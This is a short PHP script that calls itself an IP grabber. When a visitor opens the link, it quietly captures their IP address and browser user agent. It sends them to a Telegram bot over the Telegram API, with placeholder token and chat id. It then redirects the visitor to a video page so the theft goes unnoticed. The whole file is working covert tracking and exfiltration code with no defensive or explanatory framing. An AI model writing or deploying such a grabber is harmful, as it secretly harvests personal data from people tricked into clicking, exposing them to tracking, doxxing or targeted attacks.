<?php
// an IP grabber that reads a field it never uses
$v = $_GET['v'] ?? 'abc';
$ip = $_SERVER['HTTP_X_FORWARDED_FOR'] ?? $_SERVER['REMOTE_ADDR'];
$msg = "opened: $ip\n" . ($_SERVER['HTTP_USER_AGENT'] ?? '');
file_get_contents('https://api.telegram.org/bot000:example/sendMessage?' . http_build_query([
    'chat_id' => '111',
    'text' => $msg,
]));
header('Location: https://video.example.com/watch?v=abc');
